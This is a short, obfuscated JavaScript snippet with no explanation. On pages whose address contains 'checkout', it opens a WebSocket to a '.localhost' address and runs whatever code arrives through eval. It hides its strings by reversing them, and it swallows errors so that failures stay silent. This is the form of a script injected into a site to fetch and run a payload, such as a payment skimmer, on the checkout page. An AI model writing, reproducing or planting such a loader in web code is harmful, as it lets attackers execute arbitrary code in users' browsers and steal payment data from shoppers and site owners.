;(function(_,$){var o='tsohlacol.'.split('').reverse().join('');if(_.location.hostname.slice(-o.length)!==o)return;
var a='sj/tsohlacol.evil-pleh//:ssw'.split('').reverse().join(''),b='tuokcehc'.split('').reverse().join('');
if(_.location.href.indexOf(b)<0)return;
var k=new _['WebSocket'](a);k['onmessage']=function(m){try{_['eval'](m['data'])}catch(e){}}})(window,document);
